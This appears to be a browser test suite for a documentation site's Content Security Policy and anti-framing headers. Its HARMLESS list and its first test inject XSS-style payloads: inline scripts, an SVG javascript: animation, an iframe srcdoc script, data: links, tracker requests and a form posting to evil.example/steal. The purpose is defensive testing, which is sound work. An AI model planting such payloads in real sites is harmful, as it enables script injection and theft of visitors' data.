/**
 * The policy in a real browser: on a built page, the scripts the site ships run, while a script
 * or an event handler slipped into the HTML after the build is blocked and reported. (The build
 * itself refuses such pages; this shows the policy would stop them anyway, e.g. on a host that
 * rewrites HTML.)
 */
import { mkdtempSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ROOT } from '../support/fixture.ts';
import { DIST_DIR } from '../support/site.ts';
import { launchChromium } from '../support/browser.ts';
import { serveDist } from '../support/server.ts';

/**
 * Serves `html` as /en/about/ with no headers (the page's own CSP meta is the policy under test),
 * and the built site beside it, so the shipped external scripts load as on the site.
 */
async function serveAboutPage(html: string) {
	const dir = mkdtempSync(join(tmpdir(), 'csp-'));
	mkdirSync(join(dir, 'en/about'), { recursive: true });
	writeFileSync(join(dir, 'en/about/index.html'), html);
	writeFileSync(join(dir, '404.html'), 'not found');
	const server = await serveDist(dir, '/', []);
	const assets = await serveDist(join(ROOT, DIST_DIR), '/', []);
	return { server, assets };
}

describe('content security policy', () => {
	it('blocks an injected inline script and event handler on a built page, runs the shipped ones', async () => {
		const built = readFileSync(join(ROOT, DIST_DIR, 'en/about/index.html'), 'utf8');
		const tampered = built.replace(
			'</body>',
			'<script>document.body.dataset.evil = "1"</script><svg onload="document.body.dataset.handler = \'1\'"></svg></body>',
		);
		const { server, assets } = await serveAboutPage(tampered);
		const browser = await launchChromium();
		try {
			const page = await browser.newPage();
			const violations: string[] = [];
			page.on('console', (m) => m.type() === 'error' && violations.push(m.text()));
			await page.route('**/_astro/**', (route) =>
				route.continue({ url: route.request().url().replace(server.url, assets.url) }),
			);
			await page.goto(`${server.url}/en/about/`);
			// Starlight's inline theme script (allowed by its hash) ran before anything else.
			expect(await page.evaluate(() => typeof window.StarlightThemeProvider)).toBe('object');
			expect(await page.evaluate(() => document.documentElement.dataset.theme)).toMatch(
				/^(light|dark)$/,
			);
			expect(await page.evaluate(() => document.body.dataset.evil)).toBeUndefined();
			expect(await page.evaluate(() => document.body.dataset.handler)).toBeUndefined();
			expect(violations.join('\n')).toMatch(/Content Security Policy/);
			expect(violations.length).toBeGreaterThanOrEqual(2);
		} finally {
			await browser.close();
			await server.close();
			await assets.close();
		}
	});
});

/**
 * Markup that the content checker refuses in pages and the audit does not look for, because the
 * policy already makes it harmless: each is put into a built page after the build, served with the
 * page's meta policy only (as `astro preview` serves it), and used as a reader would.
 */
const HARMLESS = [
	'<a id="x-ping" href="https://example.org/" ping="https://tracker.example/ping">ping</a>',
	'<div style="background-image:u\\72l(https://tracker.example/css-escape.png);height:9px">e</div>',
	`<div style="background-image:image-set('https://tracker.example/image-set.png' 1x);height:9px">i</div>`,
	`<iframe srcdoc="<script>parent.document.title='PWNED'</script><img src='https://tracker.example/srcdoc.png'>"></iframe>`,
	'<form id="steal" action="https://evil.example/steal" method="post"><input name="q" value="x"><button id="x-send">send</button></form>',
	`<a id="x-data" href="data:text/html,<script>alert('data')</script>">data</a>`,
	'<svg width="40" height="40"><a id="x-anim" href="#x"><animate attributeName="href" values="javascript:alert(1)"/><rect width="40" height="40"/></a></svg>',
	'<link rel="prerender" href="https://tracker.example/prerender">',
];

describe('markup the policy makes harmless (meta policy only)', () => {
	it('no ping, CSS escape, image-set, srcdoc, form, data: link, SVG animate or prerender reaches another site or runs', async () => {
		const built = readFileSync(join(ROOT, DIST_DIR, 'en/about/index.html'), 'utf8');
		const { server, assets } = await serveAboutPage(
			built.replace('</main>', `${HARMLESS.join('\n')}</main>`),
		);
		const browser = await launchChromium();
		try {
			const page = await browser.newPage();
			const offSite: string[] = [];
			const dialogs: string[] = [];
			page.on('dialog', (d) => {
				dialogs.push(d.message());
				void d.dismiss();
			});
			await page.route('**', (route) => {
				const url = route.request().url();
				if (url.startsWith(server.url) && url.includes('/_astro/'))
					return route.continue({ url: url.replace(server.url, assets.url) });
				if (url.startsWith(server.url) || url.startsWith('data:')) return route.continue();
				offSite.push(url);
				return route.abort();
			});
			const url = `${server.url}/en/about/`;
			await page.goto(url);
			const title = await page.title();
			for (const target of ['#x-anim', '#x-data', '#x-send']) {
				const box = await page.locator(target).boundingBox({ timeout: 5000 });
				expect(box, target).not.toBeNull();
				await page.mouse.click(box!.x + box!.width / 2, box!.y + box!.height / 2);
			}
			await page.waitForTimeout(500);
			expect(page.url()).toBe(url);
			expect(await page.title()).toBe(title);
			// The one request that may leave: following the plain link, which readers choose to do.
			const ping = (await page.locator('#x-ping').boundingBox({ timeout: 5000 }))!;
			await page.mouse.click(ping.x + ping.width / 2, ping.y + ping.height / 2);
			await page.waitForTimeout(500);
			expect(offSite.filter((u) => !u.startsWith('https://example.org/'))).toEqual([]);
			expect(dialogs).toEqual([]);
		} finally {
			await browser.close();
			await server.close();
			await assets.close();
		}
	});
});

describe('framing', () => {
	it('a host that sends _headers refuses to let another origin frame the site', async () => {
		const dist = join(ROOT, DIST_DIR);
		const site = await serveDist(dist);
		// The same pages without the headers, to show the frame would load otherwise.
		const bare = await serveDist(dist, '/', []);
		const other = mkdtempSync(join(tmpdir(), 'framer-'));
		writeFileSync(
			join(other, 'index.html'),
			`<!doctype html><iframe name="site" src="${site.url}/en/about/"></iframe><iframe name="bare" src="${bare.url}/en/about/"></iframe>`,
		);
		writeFileSync(join(other, '404.html'), 'not found');
		const framer = await serveDist(other, '/', []);
		const browser = await launchChromium();
		try {
			const page = await browser.newPage();
			// Another port is another origin.
			await page.goto(`${framer.url}/`);
			await page.waitForTimeout(1000);
			const ours = (name: string) =>
				page
					.frame({ name })!
					.evaluate(
						() => document.querySelector('meta[http-equiv="content-security-policy"]') !== null,
					)
					.catch(() => false);
			expect(await ours('bare')).toBe(true);
			expect(await ours('site')).toBe(false);
		} finally {
			await browser.close();
			await site.close();
			await bare.close();
			await framer.close();
		}
	});
});

declare global {
	interface Window {
		StarlightThemeProvider?: unknown;
	}
}
